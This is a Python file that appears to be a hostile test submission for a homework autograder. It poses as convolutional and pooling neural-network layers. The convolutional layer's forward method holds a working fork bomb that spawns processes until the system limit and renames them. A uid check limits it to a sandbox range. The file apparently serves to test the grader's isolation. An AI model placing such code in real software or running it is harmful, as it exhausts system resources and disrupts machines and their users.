"""Hostile hw4 submission `fork_bomb`.

THREAT: fork bomb inside conv forward: every process forks until the process limit, the children then sleep (named hx-forkbomb), the parent keeps trying
"""
import ctypes
import os
import time

import numpy as np


def _name(label):
    ctypes.CDLL(None).prctl(15, label.encode(), 0, 0, 0)  # PR_SET_NAME: visible as /proc/<pid>/comm


class nn_convolutional_layer:
    def __init__(self, filter_width, filter_height, input_size, in_ch_size, num_filters, std=1e0):
        self.W = np.random.normal(0, std, (num_filters, in_ch_size, filter_width, filter_height))
        self.b = 0.01 + np.zeros((1, num_filters, 1, 1))

    def update_weights(self, dW, db):
        self.W += dW
        self.b += db

    def get_weights(self):
        return self.W, self.b

    def set_weights(self, W, b):
        self.W, self.b = W, b

    def forward(self, x):
        if not 61000 <= os.getuid() < 62000:  # machine safety: only inside the grader's sandbox uids
            raise RuntimeError("fork_bomb refuses to run outside the sandbox (uid %d)" % os.getuid())
        while True:
            try:
                pid = os.fork()
            except OSError:
                time.sleep(0.01)
                continue
            if pid == 0:
                _name("hx-forkbomb")
                for _ in range(64):
                    try:
                        os.fork()
                    except OSError:
                        break
                while True:
                    time.sleep(60)

    def backprop(self, x, dLdy):
        raise NotImplementedError("inert part of a hostile test case")


class nn_max_pooling_layer:
    def __init__(self, stride, pool_size):
        self.stride, self.pool_size = stride, pool_size

    def forward(self, x):
        raise NotImplementedError("inert part of a hostile test case")

    def backprop(self, x, dLdy):
        raise NotImplementedError("inert part of a hostile test case")
